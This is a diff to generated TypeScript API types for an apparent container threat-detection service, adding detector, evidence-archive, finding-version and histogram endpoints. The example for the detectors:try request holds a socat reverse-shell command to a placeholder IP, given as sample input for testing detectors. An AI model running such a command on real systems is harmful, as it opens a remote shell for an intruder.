@@ -1045,6 +1045,70 @@ export interface paths {
         patch?: never;
         trace?: never;
     };
+    "/v2/configuration": {
+        parameters: {
+            query?: never;
+            header?: never;
+            path?: never;
+            cookie?: never;
+        };
+        get: operations["v2_configuration_get"];
+        put?: never;
+        post?: never;
+        delete?: never;
+        options?: never;
+        head?: never;
+        patch?: never;
+        trace?: never;
+    };
+    "/v2/detectors": {
+        parameters: {
+            query?: never;
+            header?: never;
+            path?: never;
+            cookie?: never;
+        };
+        get: operations["v2_detectors_list"];
+        put?: never;
+        post?: never;
+        delete?: never;
+        options?: never;
+        head?: never;
+        patch?: never;
+        trace?: never;
+    };
+    "/v2/detectors:replay": {
+        parameters: {
+            query?: never;
+            header?: never;
+            path?: never;
+            cookie?: never;
+        };
+        get?: never;
+        put?: never;
+        post: operations["v2_detectors_replay"];
+        delete?: never;
+        options?: never;
+        head?: never;
+        patch?: never;
+        trace?: never;
+    };
+    "/v2/detectors:try": {
+        parameters: {
+            query?: never;
+            header?: never;
+            path?: never;
+            cookie?: never;
+        };
+        get?: never;
+        put?: never;
+        post: operations["v2_detectors_try"];
+        delete?: never;
+        options?: never;
+        head?: never;
+        patch?: never;
+        trace?: never;
+    };
     "/v2/{collection}/{id}/auditLogEntries": {
         parameters: {
             query?: never;
@@ -1904,6 +1968,31 @@ export interface paths {
         patch?: never;
         trace?: never;
     };
+    "/v2/{collection}/{id}/sources/{source}/findings/{finding}/evidence:archive": {
+        parameters: {
+            query?: never;
+            header?: never;
+            path: {
+                /** @example organizations */
+                collection: "organizations" | "folders" | "projects";
+                /** @example 1 */
+                id: string;
+                /** @example container-threat-detection */
+                source: string;
+                /** @example f000 */
+                finding: string;
+            };
+            cookie?: never;
+        };
+        get?: never;
+        put?: never;
+        post: operations["v2_evidence_archive"];
+        delete?: never;
+        options?: never;
+        head?: never;
+        patch?: never;
+        trace?: never;
+    };
     "/v2/{collection}/{id}/sources/{source}/findings/{finding}/externalSystems/{system}": {
         parameters: {
             query?: never;
@@ -1956,6 +2045,31 @@ export interface paths {
         patch: operations["v2_findingsecuritymarks_update"];
         trace?: never;
     };
+    "/v2/{collection}/{id}/sources/{source}/findings/{finding}/versions": {
+        parameters: {
+            query?: never;
+            header?: never;
+            path: {
+                /** @example organizations */
+                collection: "organizations" | "folders" | "projects";
+                /** @example 1 */
+                id: string;
+                /** @example container-threat-detection */
+                source: string;
+                /** @example f000 */
+                finding: string;
+            };
+            cookie?: never;
+        };
+        get: operations["v2_findings_list_versions"];
+        put?: never;
+        post?: never;
+        delete?: never;
+        options?: never;
+        head?: never;
+        patch?: never;
+        trace?: never;
+    };
     "/v2/{collection}/{id}/sources/{source}/findings/{finding}:setMute": {
         parameters: {
             query?: never;
@@ -2006,6 +2120,31 @@ export interface paths {
         patch?: never;
         trace?: never;
     };
+    "/v2/{collection}/{id}/sources/{source}/findings/{finding}:shape": {
+        parameters: {
+            query?: never;
+            header?: never;
+            path: {
+                /** @example organizations */
+                collection: "organizations" | "folders" | "projects";
+                /** @example 1 */
+                id: string;
+                /** @example container-threat-detection */
+                source: string;
+                /** @example f000 */
+                finding: string;
+            };
+            cookie?: never;
+        };
+        get: operations["v2_findings_shape"];
+        put?: never;
+        post?: never;
+        delete?: never;
+        options?: never;
+        head?: never;
+        patch?: never;
+        trace?: never;
+    };
     "/v2/{collection}/{id}/sources/{source}/findings:group": {
         parameters: {
             query?: never;
@@ -2023,6 +2162,29 @@ export interface paths {
         get?: never;
         put?: never;
         post: operations["v2_findings_group"];
+        delete?: never;
+        options?: never;
+        head?: never;
+        patch?: never;
+        trace?: never;
+    };
+    "/v2/{collection}/{id}/sources/{source}/findings:histogram": {
+        parameters: {
+            query?: never;
+            header?: never;
+            path: {
+                /** @example organizations */
+                collection: "organizations" | "folders" | "projects";
+                /** @example 1 */
+                id: string;
+                /** @example container-threat-detection */
+                source: string;
+            };
+            cookie?: never;
+        };
+        get?: never;
+        put?: never;
+        post: operations["v2_findings_histogram"];
         delete?: never;
         options?: never;
         head?: never;
@@ -2137,6 +2299,33 @@ export interface paths {
         patch?: never;
         trace?: never;
     };
+    "/v2/{collection}/{id}/sources/{source}/locations/{location}/findings/{finding}/evidence:archive": {
+        parameters: {
+            query?: never;
+            header?: never;
+            path: {
+                /** @example organizations */
+                collection: "organizations" | "folders" | "projects";
+                /** @example 1 */
+                id: string;
+                /** @example container-threat-detection */
+                source: string;
+                /** @example global */
+                location: string;
+                /** @example f000 */
+                finding: string;
+            };
+            cookie?: never;
+        };
+        get?: never;
+        put?: never;
+        post: operations["v2_evidence_archive_location"];
+        delete?: never;
+        options?: never;
+        head?: never;
+        patch?: never;
+        trace?: never;
+    };
     "/v2/{collection}/{id}/sources/{source}/locations/{location}/findings/{finding}/externalSystems/{system}": {
         parameters: {
             query?: never;
@@ -2193,6 +2382,33 @@ export interface paths {
         patch: operations["v2_findingsecuritymarks_update_location"];
         trace?: never;
     };
+    "/v2/{collection}/{id}/sources/{source}/locations/{location}/findings/{finding}/versions": {
+        parameters: {
+            query?: never;
+            header?: never;
+            path: {
+                /** @example organizations */
+                collection: "organizations" | "folders" | "projects";
+                /** @example 1 */
+                id: string;
+                /** @example container-threat-detection */
+                source: string;
+                /** @example global */
+                location: string;
+                /** @example f000 */
+                finding: string;
+            };
+            cookie?: never;
+        };
+        get: operations["v2_findings_list_versions_location"];
+        put?: never;
+        post?: never;
+        delete?: never;
+        options?: never;
+        head?: never;
+        patch?: never;
+        trace?: never;
+    };
     "/v2/{collection}/{id}/sources/{source}/locations/{location}/findings/{finding}:setMute": {
         parameters: {
             query?: never;
@@ -2247,6 +2463,33 @@ export interface paths {
         patch?: never;
         trace?: never;
     };
+    "/v2/{collection}/{id}/sources/{source}/locations/{location}/findings/{finding}:shape": {
+        parameters: {
+            query?: never;
+            header?: never;
+            path: {
+                /** @example organizations */
+                collection: "organizations" | "folders" | "projects";
+                /** @example 1 */
+                id: string;
+                /** @example container-threat-detection */
+                source: string;
+                /** @example global */
+                location: string;
+                /** @example f000 */
+                finding: string;
+            };
+            cookie?: never;
+        };
+        get: operations["v2_findings_shape_location"];
+        put?: never;
+        post?: never;
+        delete?: never;
+        options?: never;
+        head?: never;
+        patch?: never;
+        trace?: never;
+    };
     "/v2/{collection}/{id}/sources/{source}/locations/{location}/findings:group": {
         parameters: {
             query?: never;
@@ -2266,6 +2509,31 @@ export interface paths {
         get?: never;
         put?: never;
         post: operations["v2_findings_group_location"];
+        delete?: never;
+        options?: never;
+        head?: never;
+        patch?: never;
+        trace?: never;
+    };
+    "/v2/{collection}/{id}/sources/{source}/locations/{location}/findings:histogram": {
+        parameters: {
+            query?: never;
+            header?: never;
+            path: {
+                /** @example organizations */
+                collection: "organizations" | "folders" | "projects";
+                /** @example 1 */
+                id: string;
+                /** @example container-threat-detection */
+                source: string;
+                /** @example global */
+                location: string;
+            };
+            cookie?: never;
+        };
+        get?: never;
+        put?: never;
+        post: operations["v2_findings_histogram_location"];
         delete?: never;
         options?: never;
         head?: never;
@@ -2403,6 +2671,39 @@ export interface components {
         BulkMuteState: "MUTE_STATE_UNSPECIFIED" | "MUTED" | "UNDEFINED";
         /** @enum {string} */
         CloudProvider: "CLOUD_PROVIDER_UNSPECIFIED" | "GOOGLE_CLOUD_PLATFORM" | "AMAZON_WEB_SERVICES" | "MICROSOFT_AZURE";
+        Configuration: {
+            access?: {
+                kubernetes?: boolean;
+                openIdConnect?: string[];
+            };
+            intake?: Record<string, never> | null;
+            listen?: string;
+            organization?: string | null;
+            outputs?: {
+                pubsubPush?: boolean;
+                secretNames?: string[];
+            };
+            redaction?: Record<string, never> | null;
+            retention?: {
+                auditDays?: number;
+                changesDays?: number;
+                findingsDays?: number;
+            };
+            roles?: {
+                permissions?: string[];
+                role?: string;
+            }[];
+            settings?: {
+                documentation?: string;
+                env?: string | null;
+                helm?: string | null;
+                key?: string;
+                value?: string;
+            }[];
+            /** @enum {string} */
+            store?: "sqlite" | "postgres";
+            version?: string;
+        };
         ContainerThreatDetectionSettings: {
             modules?: {
                 [key: string]: {
@@ -2414,6 +2715,13 @@ export interface components {
             serviceEnablementState?: components["schemas"]["EnablementState"] | number;
             /** Format: date-time */
             updateTime?: string;
+        };
+        CustodyEntry: {
+            /** @enum {string} */
+            action?: "taken" | "stored" | "downloaded";
+            principal?: string;
+            /** Format: date-time */
+            time?: string;
         };
         DeadLetter: {
             attempts?: number;
@@ -2427,6 +2735,52 @@ export interface components {
             notificationConfig?: string;
             reason?: string;
         };
+        Detector: {
+            additionalTactics?: string[];
+            category?: string;
+            cost?: components["schemas"]["DetectorCost"] | null;
+            /** @description Markdown. */
+            description?: string;
+            evidence?: string[];
+            module?: string;
+            needs?: string[];
+            onByDefault?: boolean;
+            reproduction?: string;
+            severity?: string;
+            tactic?: string;
+            techniques?: string[];
+        };
+        DetectorCondition: {
+            condition?: string;
+            reason?: string;
+            /** @enum {string} */
+            state?: "TRUE" | "FALSE" | "UNKNOWN";
+        };
+        DetectorCost: {
+            /** Format: int64 */
+            events?: string;
+            nanosPerEvent?: number;
+        };
+        DetectorVerdict: {
+            commandLine?: string;
+            conditions?: components["schemas"]["DetectorCondition"][];
+            module?: string;
+            /** Format: int64 */
+            pid?: string;
+            /** @enum {string} */
+            verdict?: "FOUND" | "QUIET" | "UNDECIDED";
+        };
+        ElfFacts: {
+            buildId?: string;
+            class?: string;
+            interpreter?: string;
+            machine?: string;
+            needed?: string[];
+            neededTruncated?: boolean;
+            static?: boolean;
+            stripped?: boolean;
+            type?: string;
+        };
         Empty: Record<string, never>;
         /** @enum {string} */
         EnablementState: "ENABLEMENT_STATE_UNSPECIFIED" | "INHERITED" | "ENABLED" | "DISABLED";
@@ -2439,6 +2793,8 @@ export interface components {
             };
         };
         Evidence: {
+            custody?: components["schemas"]["CustodyEntry"][];
+            elf?: components["schemas"]["ElfFacts"];
             kind?: string;
             name?: string;
             /** Format: int64 */
@@ -2449,6 +2805,9 @@ export interface components {
             /** Format: date-time */
             takeTime?: string;
             truncated?: boolean;
+        };
+        EvidenceArchiveRequest: {
+            password: string;
         };
         ExternalSystem: {
             assignees?: string[];
@@ -2516,6 +2875,20 @@ export interface components {
             resource?: components["schemas"]["Resource"];
             stateChange?: components["schemas"]["StateChange"] | number;
         };
+        FindingVersion: {
+            /**
+             * Format: date-time
+             * @description When it was replaced.
+             */
+            endTime?: string;
+            finding?: components["schemas"]["Finding"];
+            resource?: components["schemas"]["Resource"];
+            /**
+             * Format: date-time
+             * @description When it became so.
+             */
+            versionTime?: string;
+        };
         GetIamPolicyRequest: {
             options?: Record<string, never>;
         };
@@ -2541,6 +2914,35 @@ export interface components {
             properties?: {
                 [key: string]: unknown;
             };
+        };
+        Histogram: {
+            buckets?: components["schemas"]["HistogramBucket"][];
+            /** @description false: there are more findings than were counted. */
+            complete?: boolean;
+        };
+        HistogramBucket: {
+            /** @description How many findings of each severity, by its name. */
+            counts?: {
+                [key: string]: string;
+            };
+            /** Format: date-time */
+            endTime?: string;
+            /** Format: date-time */
+            startTime?: string;
+        };
+        HistogramRequest: {
+            /** @description 60 without. */
+            buckets?: number;
+            /** Format: date-time */
+            endTime: string;
+            /**
+             * @description eventTime without.
+             * @enum {string}
+             */
+            field?: "eventTime" | "createTime";
+            filter?: string;
+            /** Format: date-time */
+            startTime: string;
         };
         IssueCertificateRequest: {
             lifeSeconds?: string | number;
@@ -2575,8 +2977,15 @@ export interface components {
             readTime?: string;
             totalSize?: number;
         };
+        ListDetectorsResponse: {
+            detectors?: components["schemas"]["Detector"][];
+        };
         ListEvidenceResponse: {
             evidence?: components["schemas"]["Evidence"][];
+        };
+        ListFindingVersionsResponse: {
+            nextPageToken?: string;
+            versions?: components["schemas"]["FindingVersion"][];
         };
         ListFindingsResponse: {
             listFindingsResults?: components["schemas"]["FindingResult"][];
@@ -2584,6 +2993,8 @@ export interface components {
             /** Format: date-time */
             readTime?: string;
             totalSize?: number;
+            /** @description There may be more than totalSize: what matches is known only by looking at every finding. */
+            totalSizeIsLeast?: boolean;
         };
         ListMuteConfigsResponse: {
             muteConfigs?: components["schemas"]["MuteConfig"][];
@@ -2708,6 +3119,14 @@ export interface components {
             /** @description Why it ended before the last one. */
             stopReason?: string;
         };
+        ReplayDetectorsResponse: {
+            findings?: components["schemas"]["FindingResult"][];
+            /** Format: int64 */
+            findingsLeftOut?: string;
+            /** Format: int64 */
+            records?: string;
+            verdicts?: components["schemas"]["DetectorVerdict"][];
+        };
         Resource: {
             cloudProvider?: components["schemas"]["CloudProvider"] | number;
             displayName?: string;
@@ -2755,15 +3174,29 @@ export interface components {
         Sensor: {
             cluster?: string;
             counters?: Record<string, never>;
+            /** @description What each detector has cost since the sensor's start: events, nanos. */
+            detectors?: Record<string, never>;
             kernel?: string;
+            /** @description How long its oldest finding had been waiting when it was last heard. */
+            lagSeconds?: number;
+            /** @description Since it started, by kind. */
+            lost?: {
+                [key: string]: string;
+            };
             mode?: string;
             name?: string;
             node?: string;
+            problems?: {
+                advice?: string;
+                problem?: string;
+            }[];
             /** Format: date-time */
             receivedAt?: string;
             sensorVersion?: string;
             /** Format: date-time */
             startTime?: string;
+            /** @enum {string} */
+            state?: "OK" | "SILENT" | "LOSING" | "TAMPERED";
         };
         ServiceAccountKey: {
             bindings: components["schemas"]["Binding"][];
@@ -2792,6 +3225,10 @@ export interface components {
         };
         /** @enum {string} */
         Severity: "SEVERITY_UNSPECIFIED" | "CRITICAL" | "HIGH" | "MEDIUM" | "LOW";
+        ShapedFinding: {
+            document?: Record<string, never>;
+            shape?: string;
+        };
         Source: {
             canonicalName?: string;
             description?: string;
@@ -2820,6 +3257,12 @@ export interface components {
             name?: string;
             /** @description The token itself: only in the answer that made it. */
             token?: string;
+        };
+        TryDetectorsRequest: {
+            commandLine: string;
+        };
+        TryDetectorsResponse: {
+            verdicts?: components["schemas"]["DetectorVerdict"][];
         };
     };
     responses: never;
@@ -7367,6 +7810,223 @@ export interface operations {
             };
         };
     };
+    v2_configuration_get: {
+        parameters: {
+            query?: {
+                $alt?: "json" | "json;enum-encoding=int";
+                $fields?: string;
+                prettyPrint?: boolean;
+            };
+            header?: never;
+            path?: never;
+            cookie?: never;
+        };
+        requestBody?: never;
+        responses: {
+            /** @description It was done. */
+            200: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Configuration"];
+                };
+            };
+            /** @description The server cannot do it now. */
+            503: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+            /** @description It took too long. */
+            504: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+            /** @description The request is wrong, or whoever asks may not. */
+            "4XX": {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+        };
+    };
+    v2_detectors_list: {
+        parameters: {
+            query?: {
+                $alt?: "json" | "json;enum-encoding=int";
+                $fields?: string;
+                prettyPrint?: boolean;
+            };
+            header?: never;
+            path?: never;
+            cookie?: never;
+        };
+        requestBody?: never;
+        responses: {
+            /** @description It was done. */
+            200: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["ListDetectorsResponse"];
+                };
+            };
+            /** @description The server cannot do it now. */
+            503: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+            /** @description It took too long. */
+            504: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+            /** @description The request is wrong, or whoever asks may not. */
+            "4XX": {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+        };
+    };
+    v2_detectors_replay: {
+        parameters: {
+            query?: {
+                $alt?: "json" | "json;enum-encoding=int";
+                $fields?: string;
+                prettyPrint?: boolean;
+            };
+            header?: never;
+            path?: never;
+            cookie?: never;
+        };
+        requestBody: {
+            content: {
+                "application/octet-stream": string;
+            };
+        };
+        responses: {
+            /** @description It was done. */
+            200: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["ReplayDetectorsResponse"];
+                };
+            };
+            /** @description The server cannot do it now. */
+            503: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+            /** @description It took too long. */
+            504: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+            /** @description The request is wrong, or whoever asks may not. */
+            "4XX": {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+        };
+    };
+    v2_detectors_try: {
+        parameters: {
+            query?: {
+                $alt?: "json" | "json;enum-encoding=int";
+                $fields?: string;
+                prettyPrint?: boolean;
+            };
+            header?: never;
+            path?: never;
+            cookie?: never;
+        };
+        requestBody?: {
+            content: {
+                /**
+                 * @example {
+                 *       "commandLine": "socat TCP:203.0.113.7:4444 EXEC:/bin/sh"
+                 *     }
+                 */
+                "application/json": components["schemas"]["TryDetectorsRequest"];
+            };
+        };
+        responses: {
+            /** @description It was done. */
+            200: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["TryDetectorsResponse"];
+                };
+            };
+            /** @description The server cannot do it now. */
+            503: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+            /** @description It took too long. */
+            504: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+            /** @description The request is wrong, or whoever asks may not. */
+            "4XX": {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+        };
+    };
     v2_audit_log_entries_list: {
         parameters: {
             query?: {
@@ -11194,6 +11854,76 @@ export interface operations {
             };
         };
     };
+    v2_evidence_archive: {
+        parameters: {
+            query?: {
+                $alt?: "json" | "json;enum-encoding=int";
+                $fields?: string;
+                prettyPrint?: boolean;
+            };
+            header?: never;
+            path: {
+                /** @example organizations */
+                collection: "organizations" | "folders" | "projects";
+                /** @example 1 */
+                id: string;
+                /** @example container-threat-detection */
+                source: string;
+                /** @example f000 */
+                finding: string;
+            };
+            cookie?: never;
+        };
+        requestBody?: {
+            content: {
+                /**
+                 * @example {
+                 *       "password": "a long example"
+                 *     }
+                 */
+                "application/json": components["schemas"]["EvidenceArchiveRequest"];
+            };
+        };
+        responses: {
+            /** @description It was done. */
+            200: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/octet-stream": string;
+                    "application/zip": string;
+                };
+            };
+            /** @description The server cannot do it now. */
+            503: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+            /** @description It took too long. */
+            504: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+            /** @description The request is wrong, or whoever asks may not. */
+            "4XX": {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+        };
+    };
     v2_findingexternalsystems_update: {
         parameters: {
             query?: {
@@ -11308,6 +12038,68 @@ export interface operations {
                 };
                 content: {
                     "application/json": components["schemas"]["SecurityMarks"];
+                };
+            };
+            /** @description The server cannot do it now. */
+            503: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+            /** @description It took too long. */
+            504: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+            /** @description The request is wrong, or whoever asks may not. */
+            "4XX": {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+        };
+    };
+    v2_findings_list_versions: {
+        parameters: {
+            query?: {
+                pageSize?: number;
+                pageToken?: string;
+                $alt?: "json" | "json;enum-encoding=int";
+                $fields?: string;
+                prettyPrint?: boolean;
+            };
+            header?: never;
+            path: {
+                /** @example organizations */
+                collection: "organizations" | "folders" | "projects";
+                /** @example 1 */
+                id: string;
+                /** @example container-threat-detection */
+                source: string;
+                /** @example f000 */
+                finding: string;
+            };
+            cookie?: never;
+        };
+        requestBody?: never;
+        responses: {
+            /** @description It was done. */
+            200: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["ListFindingVersionsResponse"];
                 };
             };
             /** @description The server cannot do it now. */
@@ -11477,6 +12269,67 @@ export interface operations {
             };
         };
     };
+    v2_findings_shape: {
+        parameters: {
+            query?: {
+                shape?: "scc-v2" | "scc-v1" | "console" | "ocsf" | "falco";
+                $alt?: "json" | "json;enum-encoding=int";
+                $fields?: string;
+                prettyPrint?: boolean;
+            };
+            header?: never;
+            path: {
+                /** @example organizations */
+                collection: "organizations" | "folders" | "projects";
+                /** @example 1 */
+                id: string;
+                /** @example container-threat-detection */
+                source: string;
+                /** @example f000 */
+                finding: string;
+            };
+            cookie?: never;
+        };
+        requestBody?: never;
+        responses: {
+            /** @description It was done. */
+            200: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["ShapedFinding"];
+                };
+            };
+            /** @description The server cannot do it now. */
+            503: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+            /** @description It took too long. */
+            504: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+            /** @description The request is wrong, or whoever asks may not. */
+            "4XX": {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+        };
+    };
     v2_findings_group: {
         parameters: {
             query?: {
@@ -11514,6 +12367,76 @@ export interface operations {
                 };
                 content: {
                     "application/json": components["schemas"]["GroupFindingsResponse"];
+                };
+            };
+            /** @description The server cannot do it now. */
+            503: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+            /** @description It took too long. */
+            504: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+            /** @description The request is wrong, or whoever asks may not. */
+            "4XX": {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+        };
+    };
+    v2_findings_histogram: {
+        parameters: {
+            query?: {
+                $alt?: "json" | "json;enum-encoding=int";
+                $fields?: string;
+                prettyPrint?: boolean;
+            };
+            header?: never;
+            path: {
+                /** @example organizations */
+                collection: "organizations" | "folders" | "projects";
+                /** @example 1 */
+                id: string;
+                /** @example container-threat-detection */
+                source: string;
+            };
+            cookie?: never;
+        };
+        requestBody?: {
+            content: {
+                /**
+                 * @example {
+                 *       "buckets": 60,
+                 *       "endTime": "2026-11-30T00:00:00Z",
+                 *       "filter": "state=\"ACTIVE\"",
+                 *       "startTime": "2026-11-01T00:00:00Z"
+                 *     }
+                 */
+                "application/json": components["schemas"]["HistogramRequest"];
+            };
+        };
+        responses: {
+            /** @description It was done. */
+            200: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Histogram"];
                 };
             };
             /** @description The server cannot do it now. */
@@ -11946,6 +12869,78 @@ export interface operations {
             };
         };
     };
+    v2_evidence_archive_location: {
+        parameters: {
+            query?: {
+                $alt?: "json" | "json;enum-encoding=int";
+                $fields?: string;
+                prettyPrint?: boolean;
+            };
+            header?: never;
+            path: {
+                /** @example organizations */
+                collection: "organizations" | "folders" | "projects";
+                /** @example 1 */
+                id: string;
+                /** @example container-threat-detection */
+                source: string;
+                /** @example global */
+                location: string;
+                /** @example f000 */
+                finding: string;
+            };
+            cookie?: never;
+        };
+        requestBody?: {
+            content: {
+                /**
+                 * @example {
+                 *       "password": "a long example"
+                 *     }
+                 */
+                "application/json": components["schemas"]["EvidenceArchiveRequest"];
+            };
+        };
+        responses: {
+            /** @description It was done. */
+            200: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/octet-stream": string;
+                    "application/zip": string;
+                };
+            };
+            /** @description The server cannot do it now. */
+            503: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+            /** @description It took too long. */
+            504: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+            /** @description The request is wrong, or whoever asks may not. */
+            "4XX": {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+        };
+    };
     v2_findingexternalsystems_update_location: {
         parameters: {
             query?: {
@@ -12064,6 +13059,70 @@ export interface operations {
                 };
                 content: {
                     "application/json": components["schemas"]["SecurityMarks"];
+                };
+            };
+            /** @description The server cannot do it now. */
+            503: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+            /** @description It took too long. */
+            504: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+            /** @description The request is wrong, or whoever asks may not. */
+            "4XX": {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+        };
+    };
+    v2_findings_list_versions_location: {
+        parameters: {
+            query?: {
+                pageSize?: number;
+                pageToken?: string;
+                $alt?: "json" | "json;enum-encoding=int";
+                $fields?: string;
+                prettyPrint?: boolean;
+            };
+            header?: never;
+            path: {
+                /** @example organizations */
+                collection: "organizations" | "folders" | "projects";
+                /** @example 1 */
+                id: string;
+                /** @example container-threat-detection */
+                source: string;
+                /** @example global */
+                location: string;
+                /** @example f000 */
+                finding: string;
+            };
+            cookie?: never;
+        };
+        requestBody?: never;
+        responses: {
+            /** @description It was done. */
+            200: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["ListFindingVersionsResponse"];
                 };
             };
             /** @description The server cannot do it now. */
@@ -12237,6 +13296,69 @@ export interface operations {
             };
         };
     };
+    v2_findings_shape_location: {
+        parameters: {
+            query?: {
+                shape?: "scc-v2" | "scc-v1" | "console" | "ocsf" | "falco";
+                $alt?: "json" | "json;enum-encoding=int";
+                $fields?: string;
+                prettyPrint?: boolean;
+            };
+            header?: never;
+            path: {
+                /** @example organizations */
+                collection: "organizations" | "folders" | "projects";
+                /** @example 1 */
+                id: string;
+                /** @example container-threat-detection */
+                source: string;
+                /** @example global */
+                location: string;
+                /** @example f000 */
+                finding: string;
+            };
+            cookie?: never;
+        };
+        requestBody?: never;
+        responses: {
+            /** @description It was done. */
+            200: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["ShapedFinding"];
+                };
+            };
+            /** @description The server cannot do it now. */
+            503: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+            /** @description It took too long. */
+            504: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+            /** @description The request is wrong, or whoever asks may not. */
+            "4XX": {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+        };
+    };
     v2_findings_group_location: {
         parameters: {
             query?: {
@@ -12276,6 +13398,78 @@ export interface operations {
                 };
                 content: {
                     "application/json": components["schemas"]["GroupFindingsResponse"];
+                };
+            };
+            /** @description The server cannot do it now. */
+            503: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+            /** @description It took too long. */
+            504: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+            /** @description The request is wrong, or whoever asks may not. */
+            "4XX": {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Error"];
+                };
+            };
+        };
+    };
+    v2_findings_histogram_location: {
+        parameters: {
+            query?: {
+                $alt?: "json" | "json;enum-encoding=int";
+                $fields?: string;
+                prettyPrint?: boolean;
+            };
+            header?: never;
+            path: {
+                /** @example organizations */
+                collection: "organizations" | "folders" | "projects";
+                /** @example 1 */
+                id: string;
+                /** @example container-threat-detection */
+                source: string;
+                /** @example global */
+                location: string;
+            };
+            cookie?: never;
+        };
+        requestBody?: {
+            content: {
+                /**
+                 * @example {
+                 *       "buckets": 60,
+                 *       "endTime": "2026-11-30T00:00:00Z",
+                 *       "filter": "state=\"ACTIVE\"",
+                 *       "startTime": "2026-11-01T00:00:00Z"
+                 *     }
+                 */
+                "application/json": components["schemas"]["HistogramRequest"];
+            };
+        };
+        responses: {
+            /** @description It was done. */
+            200: {
+                headers: {
+                    [name: string]: unknown;
+                };
+                content: {
+                    "application/json": components["schemas"]["Histogram"];
                 };
             };
             /** @description The server cannot do it now. */
